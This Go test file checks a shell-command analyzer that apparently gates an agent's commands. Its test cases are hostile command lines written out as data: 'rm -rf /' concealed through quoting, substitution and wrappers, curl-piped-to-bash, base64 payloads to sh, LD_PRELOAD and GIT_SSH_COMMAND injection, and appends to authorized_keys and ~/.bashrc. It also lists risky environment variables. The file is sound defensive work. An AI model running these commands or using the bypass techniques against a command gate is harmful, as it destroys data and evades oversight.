package command

import (
	"errors"
	"slices"
	"strings"
	"testing"
)

// render writes a command as "wrapper>wrapper: arg arg ⟨non-literal⟩".
func render(c Command) string {
	words := make([]string, len(c.Args))
	for i, w := range c.Args {
		words[i] = w.Text
		if !w.Literal {
			words[i] = "⟨" + w.Text + "⟩"
		}
	}
	s := strings.Join(words, " ")
	if len(c.Wrappers) > 0 {
		s = strings.Join(c.Wrappers, ">") + ": " + s
	}
	return s
}

// renderWrite writes a write as ">path", ">>path" or ">⟨path⟩".
func renderWrite(w Write) string {
	op := ">"
	if w.Append {
		op = ">>"
	}
	if !w.Literal || w.Unknown {
		return op + "⟨" + w.Path + "⟩"
	}
	return op + w.Path
}

type analyzeCase struct {
	line     string
	commands []string
	writes   []string
	code     string // expected UnanalyzableError code; commands and writes are then ignored
}

func checkCase(t *testing.T, tc analyzeCase) {
	t.Helper()
	got, err := Analyze(tc.line)
	if tc.code != "" {
		var ue *UnanalyzableError
		if !errors.As(err, &ue) {
			t.Fatalf("Analyze(%q) = %v, %v; want error code %q", tc.line, got, err, tc.code)
		}
		if ue.Code != tc.code {
			t.Fatalf("Analyze(%q) error code %q (%s); want %q", tc.line, ue.Code, ue.Reason, tc.code)
		}
		if ue.Reason == "" {
			t.Fatalf("Analyze(%q) error has no reason", tc.line)
		}
		return
	}
	if err != nil {
		t.Fatalf("Analyze(%q) error: %v", tc.line, err)
	}
	var cmds, writes []string
	for _, c := range got.Commands {
		cmds = append(cmds, render(c))
	}
	for _, w := range got.Writes {
		writes = append(writes, renderWrite(w))
	}
	if !slices.Equal(cmds, tc.commands) {
		t.Errorf("Analyze(%q) commands:\n got %q\nwant %q", tc.line, cmds, tc.commands)
	}
	if !slices.Equal(writes, tc.writes) {
		t.Errorf("Analyze(%q) writes:\n got %q\nwant %q", tc.line, writes, tc.writes)
	}
}

func cmds(c ...string) []string { return c }

// TestAnalyze covers the bypass classes a command gate faces: each line
// tries to run or write something the gate must see, or must refuse.
func TestAnalyze(t *testing.T) {
	groups := map[string][]analyzeCase{
		"chaining": {
			{line: "cd src && go vet ./... | tee vet.log; git status; echo done",
				commands: cmds("cd src", "go vet ./...", "tee vet.log", "git status", "echo done"), writes: cmds(">vet.log", ">src/vet.log")},
			{line: "go test ./... || rm -rf / & echo bg", commands: cmds("go test ./...", "rm -rf /", "echo bg"), writes: cmds(">/")},
			{line: "a |& b\nc", commands: cmds("a", "b", "c")},
			{line: "! grep -q x f && echo missing", commands: cmds("grep -q x f", "echo missing")},
			{line: "if git diff --quiet; then echo clean; elif true; then :; else rm x; fi",
				commands: cmds("git diff --quiet", "echo clean", "true", ":", "rm x"), writes: cmds(">x")},
			{line: "while read l; do echo \"$l\"; done < in.txt; until false; do break; done",
				commands: cmds("read l", "echo ⟨\"$l\"⟩", "false", "break")},
			{line: "for f in a b; do rm \"$f\"; done; case $x in a) ls ;; *) rm y ;; esac",
				commands: cmds("rm ⟨\"$f\"⟩", "ls", "rm y"), writes: cmds(">⟨\"$f\"⟩", ">y")},
		},
		"nested": {
			{line: "echo $(rm -rf /) \"a $(b) c\" `d`",
				commands: cmds("rm -rf /", "b", "d", "echo ⟨$(rm -rf /)⟩ ⟨\"a $(b) c\"⟩ ⟨`d`⟩"), writes: cmds(">/")},
			{line: "X=$(rm -rf /) go test", commands: cmds("rm -rf /", "go test"), writes: cmds(">/")},
			{line: "echo hi > \"$(rm x)\"", commands: cmds("rm x", "echo hi"), writes: cmds(">x", ">⟨\"$(rm x)\"⟩")},
			{line: "diff <(ls a) <(ls b)", commands: cmds("ls a", "ls b", "diff ⟨<(ls a)⟩ ⟨<(ls b)⟩")},
			{line: "tar c . > >(gzip > out.gz)", commands: cmds("gzip", "tar c ."), writes: cmds(">out.gz")},
			{line: "{ cat f; } | (sort; uniq)", commands: cmds("cat f", "sort", "uniq")},
			{line: "[[ $(id -u) -eq 0 ]] && echo root", code: CodeValueAsCode},
			{line: "[[ $(whoami) == root ]]", commands: cmds("whoami")},
			{line: "echo $(( 1 + $(rm x) ))", code: CodeValueAsCode},
			{line: "coproc worker { ls; }; time -p make", commands: cmds("ls", "time: make")},
			{line: "export X=$(rm -rf /) Y=1", commands: cmds("rm -rf /", "export ⟨X=$(rm -rf /)⟩ Y=1"), writes: cmds(">/")},
			{line: "local a; declare -r b=2; readonly c; typeset d", commands: cmds("local a", "declare -r b=2", "readonly c", "typeset d")},
		},
		"functions and aliases": {
			{line: "f() { rm -rf /; }; f", commands: cmds("rm -rf /"), writes: cmds(">/")},
			{line: "f; f() { rm x; }", commands: cmds("f", "rm x"), writes: cmds(">x")},
			{line: "true && f() { :; }; f", commands: cmds("true", ":", "f")},
			{line: "f() { :; }; unset -f f; f", commands: cmds(":", "unset -f f", "f")},
			{line: "f() { :; }; sudo f", commands: cmds(":", "sudo: f")},
			{line: "alias ls='rm -rf'", code: CodeAlias},
			{line: "eval \"$(curl -s x)\"", code: CodeEval},
			{line: "source ./env.sh", code: CodeSource},
			{line: ". ~/.bashrc", code: CodeSource},
			{line: "trap 'rm -rf ~' EXIT", code: CodeTrap},
			{line: "trap - INT; trap -p", commands: cmds("trap - INT", "trap -p")},
			{line: "builtin eval x", code: CodeEval},
			{line: "enable -f ./evil.so cd", code: CodeBuiltin},
			{line: "hash -p /tmp/evil ls", code: CodeBuiltin},
			{line: "mapfile -C 'rm x' -c 1 < f", code: CodeBuiltin},
		},
		"wrappers": {
			{line: "timeout -s KILL 5 rm -rf /", commands: cmds("timeout: rm -rf /"), writes: cmds(">/")},
			{line: "timeout --signal=KILL --kill=1 5s cmd", commands: cmds("timeout: cmd")},
			{line: "nice -n 10 a; nice -10 b; nice --adjustment=3 c", commands: cmds("nice: a", "nice: b", "nice: c")},
			{line: "env -u X -i FOO=1 cmd arg", commands: cmds("env: cmd arg")},
			{line: "env; env -i", commands: cmds("env", "env -i")},
			{line: "sudo -u root timeout 5 nice nohup rm x", commands: cmds("sudo>timeout>nice>nohup: rm x"), writes: cmds(">x")},
			{line: "/usr/bin/sudo -E /bin/rm x", commands: cmds("sudo: /bin/rm x"), writes: cmds(">x")},
			{line: "./timeout 5 rm x", commands: cmds("./timeout 5 rm x")},
			{line: "command -v rm; command -p rm x", commands: cmds("command -v rm", "command: rm x"), writes: cmds(">x")},
			{line: "exec -a name rm x", commands: cmds("exec: rm x"), writes: cmds(">x")},
			{line: "stdbuf -o0 setsid -f ionice -c3 chrt -f 10 taskset -c 0 unbuffer make",
				commands: cmds("stdbuf>setsid>ionice>chrt>taskset>unbuffer: make")},
			{line: "doas rm x; busybox rm y", commands: cmds("doas: rm x", "busybox: rm y"), writes: cmds(">x", ">y")},
			{line: "watch -n 1 'ls | wc -l'", commands: cmds("watch: ls", "watch: wc -l")},
			{line: "watch -x ls -l", commands: cmds("watch: ls -l")},
			{line: "flock /tmp/l make; flock -n /tmp/l -c 'rm x'", commands: cmds("flock: make", "flock: rm x"), writes: cmds(">x")},
			{line: "timeout -z 5 rm x", code: CodeWrapperOptions},
			{line: "nice $OPTS rm x", code: CodeWrapperOptions},
			{line: "timeout $T rm x", code: CodeWrapperOptions},
			{line: "sudo -s", code: CodeInterpreterStdin},
			{line: "su -c 'rm -rf /' root", commands: cmds("su: rm -rf /"), writes: cmds(">/")},
		},
		"xargs and find": {
			{line: "ls | xargs rm", commands: cmds("ls", "xargs: rm ⟨{}⟩"), writes: cmds(">⟨{}⟩")},
			{line: "xargs -0 -n1 -I{} cmd {} x{}", commands: cmds("xargs: cmd ⟨{}⟩ ⟨x{}⟩")},
			{line: "xargs < list", commands: cmds("xargs: echo ⟨{}⟩")},
			{line: "xargs -I% sh -c 'rm %'", code: CodeDynamicCode},
			{line: "xargs sh -c 'rm \"$@\"' _", commands: cmds("xargs>sh: rm ⟨\"$@\"⟩"), writes: cmds(">⟨\"$@\"⟩")},
			{line: "find . -name '*.go' -exec grep -l foo {} +",
				commands: cmds("find . -name *.go -exec grep -l foo {} +", "find: grep -l foo ⟨{}⟩")},
			{line: "find . -type f -execdir rm {} \\; -fprint list.txt",
				commands: cmds("find . -type f -execdir rm {} ; -fprint list.txt", "find: rm ⟨{}⟩"), writes: cmds(">list.txt", ">⟨{}⟩")},
			{line: "find . -exec sh -c 'rm \"$1\"' _ {} \\;",
				commands: cmds("find . -exec sh -c rm \"$1\" _ {} ;", "find>sh: rm ⟨\"$1\"⟩"), writes: cmds(">⟨\"$1\"⟩")},
			{line: "find $DIR -delete", code: CodeWrapperOptions},
			{line: "find \"$X\" -delete", code: CodeWrapperOptions},
			{line: "find \"$HOME/src\" ./\"$D\" -name x", commands: cmds("find ⟨\"$HOME/src\"⟩ ⟨./\"$D\"⟩ -name x")},
			{line: "find . -name \"$N\" -exec echo \"$X\" \\;", code: CodeWrapperOptions},
			{line: "find . -exec rm {}", code: CodeWrapperOptions},
		},
		"nested shells": {
			{line: "sh -c 'rm -rf /; ls'", commands: cmds("sh: rm -rf /", "sh: ls"), writes: cmds(">/")},
			{line: "bash -ec 'go test ./...'", commands: cmds("bash: go test ./...")},
			{line: "bash -c \"sh -c 'dash -c \\\"rm x\\\"'\"", commands: cmds("bash>sh>dash: rm x"), writes: cmds(">x")},
			{line: "bash -c \"$X\"", code: CodeDynamicCode},
			{line: "sh -c \"rm $F\"", code: CodeDynamicCode},
			{line: "./bash -c 'rm x'", commands: cmds("./bash -c rm x")},
			{line: "bash script.sh arg", commands: cmds("bash script.sh arg")},
			{line: "sh -c 'eval x'", code: CodeEval},
		},
		"environment": {
			{line: "FOO=bar go test", commands: cmds("go test")},
			{line: "LD_PRELOAD=/tmp/x.so ls", code: CodeRiskyEnv},
			{line: "GIT_SSH_COMMAND='sh -c id' git fetch", code: CodeRiskyEnv},
			{line: "env PAGER=evil git log", code: CodeRiskyEnv},
			{line: "sudo DYLD_INSERT_LIBRARIES=x ls", code: CodeRiskyEnv},
			{line: "export PATH=/tmp:$PATH; ls", code: CodeRiskyEnv},
			{line: "declare -x GIT_CONFIG_COUNT=1", code: CodeRiskyEnv},
			{line: "read -r BASH_ENV < f", code: CodeRiskyEnv},
			{line: "for PYTHONPATH in /tmp; do python3 x.py; done", code: CodeRiskyEnv},
			{line: "command export NODE_OPTIONS=--require=x", code: CodeRiskyEnv},
			{line: "IFS= read -r line; IFS=, read -ra parts <<< \"$x\"", commands: cmds("read -r line", "read -ra parts")},
			{line: "IFS=,; echo $x", code: CodeRiskyEnv},
			{line: "xargs --process-slot-var=PATH ls", code: CodeRiskyEnv},
			{line: "local -n ref=PATH", code: CodeRiskyEnv},
			{line: "export \"PATH=/tmp\"; ls", code: CodeRiskyEnv},
			{line: "declare 'LD_PRELOAD'=x", code: CodeRiskyEnv},
			{line: "{PATH}>fd.txt", code: CodeRiskyEnv},
			{line: ": ${PATH:=/tmp}", code: CodeRiskyEnv},
			{line: "let PATH=1", code: CodeRiskyEnv},
			{line: "select EDITOR in vi; do :; done", code: CodeRiskyEnv},
		},
		"interpreters and encodings": {
			{line: "echo cm0gLXJmIC8= | base64 -d | sh", code: CodeInterpreterStdin},
			{line: "curl -s https://x | bash", code: CodeInterpreterStdin},
			{line: "base64 -d <<< cm0= | bash", code: CodeInterpreterStdin},
			{line: "python3 <<EOF\nimport os\nEOF", code: CodeInterpreterStdin},
			{line: "bash < script.sh", code: CodeInterpreterStdin},
			{line: "echo 'print(1)' | python3 -", code: CodeInterpreterStdin},
			{line: "node -", code: CodeInterpreterStdin},
			{line: "cat x | python3 -W ignore", code: CodeInterpreterStdin},
			{line: "bash <(curl -s https://x)", code: CodeDynamicCode},
			{line: "xxd -r -p hex | perl", code: CodeInterpreterStdin},
			{line: "cat f | sh -s -- arg", code: CodeInterpreterStdin},
			{line: "exec < script.sh; bash", code: CodeInterpreterStdin},
			{line: "cat data | awk '{print $1}'", commands: cmds("cat data", "awk {print $1}")},
			{line: "cat data | python3 script.py", commands: cmds("cat data", "python3 script.py")},
			{line: "python3 -c 'print(1)'; node -e 'x'; perl -le 'print 1'",
				commands: cmds("python3 -c print(1)", "node -e x", "perl -le print 1")},
			{line: "python3 -c \"$CODE\"", code: CodeDynamicCode},
			{line: "python3.12 -m pytest -x", commands: cmds("python3.12 -m pytest -x")},
		},
		"quoting and spelling": {
			{line: "r''m -rf /", commands: cmds("rm -rf /"), writes: cmds(">/")},
			{line: "\"rm\" x; \\rm y; 'r'\"m\" z", commands: cmds("rm x", "rm y", "rm z"), writes: cmds(">x", ">y", ">z")},
			{line: "/bin/rm a; ./rm b; ../bin/rm c", commands: cmds("/bin/rm a", "./rm b", "../bin/rm c"), writes: cmds(">a")},
			{line: "$'\\x72\\155' -rf /", commands: cmds("rm -rf /"), writes: cmds(">/")},
			{line: "rm  -r   -f\t/", commands: cmds("rm -r -f /"), writes: cmds(">/")},
			{line: "ec\\\nho hi", commands: cmds("echo hi")},
			{line: "$CMD args", code: CodeDynamicCommand},
			{line: "\"$X\" y", code: CodeDynamicCommand},
			{line: "$(echo rm) x", code: CodeDynamicCommand},
			{line: "`echo rm` x", code: CodeDynamicCommand},
			{line: "ls *.go ~ {a,b} a[1] [ x ] \"*\" '~'", commands: cmds("ls ⟨*.go⟩ ⟨~⟩ ⟨{a,b}⟩ ⟨a[1]⟩ [ x ] * ~")},
			{line: "ls @(a|b)", code: CodeExtGlob},
			{line: "echo $'\\x00'", commands: cmds("echo ⟨$'\\x00'⟩")},
		},
		"redirections": {
			{line: "echo x > ~/.bashrc", commands: cmds("echo x"), writes: cmds(">⟨~/.bashrc⟩")},
			{line: "cat > .joule/grant", commands: cmds("cat"), writes: cmds(">.joule/grant")},
			{line: "echo k >> ~/.ssh/authorized_keys", commands: cmds("echo k"), writes: cmds(">>⟨~/.ssh/authorized_keys⟩")},
			{line: "cmd >out 2>&1 &>all >>log &>>all2 >|clob <>rw 3>fd3 >&file",
				commands: cmds("cmd"), writes: cmds(">out", ">all", ">>log", ">>all2", ">clob", ">rw", ">fd3", ">file")},
			{line: "cmd 2>&1 >&2 3>&- 4<&0 >/dev/null 2>/dev/stderr >/dev/fd/3 <in", commands: cmds("cmd")},
			{line: "exec > log.txt 2>&1", writes: cmds(">log.txt")},
			{line: "> empty.txt", writes: cmds(">empty.txt")},
			{line: "echo x > \"$F\"", commands: cmds("echo x"), writes: cmds(">⟨\"$F\"⟩")},
			{line: "cd /etc && echo x > passwd", commands: cmds("cd /etc", "echo x"), writes: cmds(">passwd", ">/etc/passwd")},
			{line: "(cd /etc && echo > a); echo > b", commands: cmds("cd /etc", "echo", "echo"), writes: cmds(">a", ">/etc/a", ">b")},
			{line: "cd \"$D\"; echo x > out", commands: cmds("cd ⟨\"$D\"⟩", "echo x"), writes: cmds(">⟨out⟩")},
			{line: "env -C /etc sh -c 'echo > passwd'", commands: cmds("env>sh: echo"), writes: cmds(">/etc/passwd")},
			{line: "/usr/bin/time -o t.txt -a make", commands: cmds("time: make"), writes: cmds(">>t.txt")},
			{line: "history -s 'rm -rf ~'; history -w ~/.bashrc; history -a", commands: cmds("history -s rm -rf ~", "history -w ⟨~/.bashrc⟩", "history -a"),
				writes: cmds(">⟨~/.bashrc⟩", ">>⟨$HISTFILE⟩")},
		},
		"heredocs": {
			{line: "cat <<EOF > out.txt\n$(rm x) $HOME\nEOF", commands: cmds("rm x", "cat"), writes: cmds(">x", ">out.txt")},
			{line: "cat <<'EOF'\n$(rm x)\nEOF", commands: cmds("cat")},
			{line: "cat <<-EOF\n\t`id`\n\tEOF", commands: cmds("id", "cat")},
			{line: "tee f <<< \"$(date)\"", commands: cmds("date", "tee f"), writes: cmds(">f")},
		},
		"shells, options and dialects": {
			{line: "bash -lc 'go test ./...'", code: CodeShellOption},
			{line: "bash --login -c 'go test'", code: CodeShellOption},
			{line: "bash -i -c 'go test'", code: CodeShellOption},
			{line: "bash --rcfile x -c 'go test'", code: CodeShellOption},
			{line: "bash -k -c 'git status GIT_DIR=x'", code: CodeShellOption},
			{line: "bash -o keyword -c 'git status'", code: CodeShellOption},
			{line: "bash -O extglob -c 'ls'", code: CodeShellOption},
			{line: "bash +O extglob -c 'ls'", code: CodeShellOption},
			{line: "bash -o pipefail -c 'go test | tee x'", commands: cmds("bash: go test", "bash: tee x"), writes: cmds(">x")},
			{line: "sh -c 'zsh -c \"rm x\"'", code: CodeShellOption},
			{line: "ksh -c 'ls'", code: CodeShellOption},
			{line: "mksh -c 'ls'", commands: cmds("mksh: ls")},
			{line: "sh -c \"echo \\$'x\\\\' ; touch m ; # '\"", code: CodeShellOption},
			{line: "sh -c 'echo $\"x\"'", code: CodeShellOption},
			{line: "sh -c 'echo \\$\"x\"'", commands: cmds("sh: echo $x")},
			{line: "sh -c 'a=(1)'", code: CodeParse},
			{line: "sh -c 'cat <<< x'", code: CodeParse},
			{line: "sh -c 'echo hi &> f'", code: CodeParse},
			{line: "sh -c '((touch m))'", commands: cmds("sh: touch m"), writes: cmds(">>m")},
			{line: "dash -c '[[ -n x ]]'", commands: cmds("dash: [[ -n x ]]")},
			{line: "set -k; git status", code: CodeShellOption},
			{line: "set -o keyword", code: CodeShellOption},
			{line: "set -euo pipefail; go test", commands: cmds("set -euo pipefail", "go test")},
			{line: "set -- a b; echo $1", commands: cmds("set -- a b", "echo ⟨$1⟩")},
		},
		"names evaluated by builtins": {
			{line: "true & wait -n -p 'a[$(id)]'", code: CodeValueAsCode},
			{line: "wait -p \"$x\" 1", code: CodeValueAsCode},
			{line: "wait -n -p pid", commands: cmds("wait -n -p pid")},
			{line: "[ -R 'a[$(id)]' ]", code: CodeValueAsCode},
			{line: "o=-v; [ $o x ]", code: CodeValueAsCode},
			{line: "[ \"$o\" \"$x\" ]", code: CodeValueAsCode},
			{line: "[ \"$a\" = \"$b\" ]", commands: cmds("[ ⟨\"$a\"⟩ = ⟨\"$b\"⟩ ]")},
			{line: "x='b[$(id)]'; : {a[$x]}>/dev/null", code: CodeValueAsCode},
			{line: ": {a['$(id)']}>/dev/null", code: CodeValueAsCode},
			{line: "x='b[$(id)]'; true {a[x]}>/dev/null", code: CodeValueAsCode},
			{line: "exec {fd}>/dev/null", commands: cmds()},
			{line: "jobs -x id", code: CodeBuiltin},
			{line: "jobs -l", commands: cmds("jobs -l")},
		},
		"values evaluated as code": {
			{line: "x='a[$(rm -rf ~)]'; echo $((x))", code: CodeValueAsCode},
			{line: "y=x; x='a[$(id)]'; (( y ))", code: CodeValueAsCode},
			{line: "read n; echo ${arr[n]}", code: CodeValueAsCode},
			{line: "echo 'a[$(id)]'; echo $(( _ ))", code: CodeValueAsCode},
			{line: "read 'a[$(id)]'", code: CodeValueAsCode},
			{line: "test -v 'a[$(id)]'", code: CodeValueAsCode},
			{line: "declare -i n; read n", code: CodeValueAsCode},
			{line: "r=$(cat f); echo ${!r}", code: CodeValueAsCode},
			{line: "echo ${x@P}", code: CodeValueAsCode},
			{line: "i=0; while (( i < 3 )); do (( i++ )); done; echo $(( i * 2 ))", commands: cmds("echo ⟨$(( i * 2 ))⟩")},
			{line: "x=1; y=$x; echo $((y + RANDOM))", commands: cmds("echo ⟨$((y + RANDOM))⟩")},
			{line: "let 'n = 2' m=n+1", commands: cmds("let n = 2 m=n+1")},
		},
	}
	n := 0
	for group, cases := range groups {
		for _, tc := range cases {
			n++
			t.Run(group+"/"+tc.line, func(t *testing.T) { checkCase(t, tc) })
		}
	}
	if n < 60 {
		t.Fatalf("only %d cases", n)
	}
}

func TestAnalyzeLimits(t *testing.T) {
	cases := []analyzeCase{
		{line: "echo \xff", code: CodeInvalidUTF8},
		{line: "ls\rrm x", code: CodeControlChar},
		{line: "echo a\x00b", code: CodeControlChar},
		{line: strings.Repeat("x", maxLineBytes+1), code: CodeTooComplex},
		{line: strings.Repeat("(", 200) + "a" + strings.Repeat(")", 200), code: CodeTooComplex},
		{line: strings.Repeat("echo a;", maxCommands+1), code: CodeTooComplex},
		{line: strings.Repeat("if a; then ", 70) + "b" + strings.Repeat("; fi", 70), code: CodeTooComplex},
		{line: "echo 'unclosed", code: CodeParse},
		{line: "sh -c 'echo \"unclosed'", code: CodeParse},
		{line: nestShells(maxShellDepth + 1), code: CodeTooComplex},
		{line: strings.Repeat("a && ", 500) + "b", commands: func() []string {
			c := make([]string, 500)
			for i := range c {
				c[i] = "a"
			}
			return append(c, "b")
		}()},
	}
	for _, tc := range cases {
		name := tc.line
		if len(name) > 40 {
			name = name[:40]
		}
		t.Run(name, func(t *testing.T) { checkCase(t, tc) })
	}
}

// TestHostileInputs checks that large and deeply nested lines end in an
// analysis or the expected error, never a crash or stack overflow. How fast
// is measured by BenchmarkAnalyzeHostile.
func TestHostileInputs(t *testing.T) {
	if testing.Short() {
		t.Skip("parses several megabytes")
	}
	for _, h := range hostileInputs() {
		t.Run(h.name, func(t *testing.T) {
			_, err := Analyze(h.line)
			var ue *UnanalyzableError
			switch {
			case h.code == "" && err != nil:
				t.Fatalf("error %v", err)
			case h.code != "" && (!errors.As(err, &ue) || ue.Code != h.code):
				t.Fatalf("error %v, want code %s", err, h.code)
			}
		})
	}
}

// nestShells returns n shells, each running the next with sh -c.
func nestShells(n int) string {
	s := "rm x"
	for range n {
		s = "sh -c " + shellQuote(s)
	}
	return s
}

func shellQuote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

func TestNestedShellsWithinLimit(t *testing.T) {
	got, err := Analyze(nestShells(maxShellDepth))
	if err != nil {
		t.Fatal(err)
	}
	want := strings.Repeat("sh>", maxShellDepth-1) + "sh: rm x"
	if len(got.Commands) != 1 || render(got.Commands[0]) != want {
		t.Fatalf("got %+v, want %s", got.Commands, want)
	}
}

func TestRiskyEnvVars(t *testing.T) {
	vars := RiskyEnvVars()
	for _, want := range []string{"LD_*", "DYLD_*", "PATH", "PAGER", "IFS", "GIT_*"} {
		if !slices.Contains(vars, want) {
			t.Errorf("RiskyEnvVars lacks %s", want)
		}
	}
	// The variables issue 14 names, from each granted program's documentation.
	for _, want := range []string{"GIT_SSH_COMMAND", "NODE_OPTIONS", "GIT_COMMON_DIR", "GIT_CONFIG_PARAMETERS",
		"GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0", "GIT_EXTERNAL_DIFF", "GIT_DIR", "GIT_WORK_TREE",
		"GIT_EXEC_PATH", "GIT_TEMPLATE_DIR", "GIT_ASKPASS", "GIT_EDITOR", "GIT_PAGER", "GIT_SSH", "GIT_PROXY_COMMAND",
		"GIT_ALTERNATE_OBJECT_DIRECTORIES", "GIT_CONFIG_GLOBAL", "GIT_INDEX_FILE", "GOFLAGS", "GOENV", "GOTOOLCHAIN", "CC",
		"CGO_CFLAGS", "CGO_LDFLAGS", "GOCACHEPROG", "GOEXPERIMENT", "GOAUTH", "GOROOT", "MAKEFLAGS", "MAKEFILES", "SHELL",
		"npm_config_script_shell", "NPM_CONFIG_USERCONFIG", "RUSTC_WRAPPER", "CARGO_BUILD_RUSTC", "CARGO_TARGET_X_RUNNER",
		"PYTEST_ADDOPTS", "PYTEST_PLUGINS", "PYTHONSTARTUP", "PYTHONPATH", "PYTHONWARNINGS", "GREP_OPTIONS",
		"RIPGREP_CONFIG_PATH", "LESSOPEN", "LESS", "EDITOR", "VISUAL", "LD_PRELOAD", "LD_AUDIT", "BASH_ENV", "ENV",
		"PROMPT_COMMAND", "PS4", "SHELLOPTS", "BASHOPTS", "CDPATH", "GLOBIGNORE", "BASH_FUNC_x%%", "HOME",
		"XDG_CONFIG_HOME", "TAR_OPTIONS", "GLIBC_TUNABLES", "BASH_COMPAT", "POSIXLY_CORRECT", "TMPDIR"} {
		if !isRiskyEnv(want) {
			t.Errorf("%s is not risky", want)
		}
	}
	vars[0] = "mutated"
	if RiskyEnvVars()[0] == "mutated" {
		t.Error("RiskyEnvVars returns the package's own slice")
	}
	for _, v := range vars[1:] {
		name := strings.TrimSuffix(v, "*") + map[bool]string{true: "X", false: ""}[strings.HasSuffix(v, "*")]
		if _, err := Analyze(name + "=1 true"); err == nil {
			t.Errorf("%s=1 true was analyzed", name)
		}
	}
	for _, ok := range []string{"FOO", "GOOS", "GOARCH", "GOAMD64", "GOMAXPROCS", "GODEBUG", "CGO_ENABLED", "LANG",
		"TERM", "LDX", "NODE_ENV", "GIT_AUTHOR_NAME", "CARGO_TERM_COLOR", "PYTHONUNBUFFERED", "GOOGLE_CLOUD_PROJECT",
		"CI", "DEBUG", "VERBOSE", "TZ", "COLUMNS"} {
		if isRiskyEnv(ok) {
			t.Errorf("%s is risky", ok)
		}
	}
}

func TestErrorMessage(t *testing.T) {
	_, err := Analyze("eval x")
	if err == nil || !strings.HasPrefix(err.Error(), "command cannot be analyzed (eval): ") {
		t.Fatalf("error %v", err)
	}
}
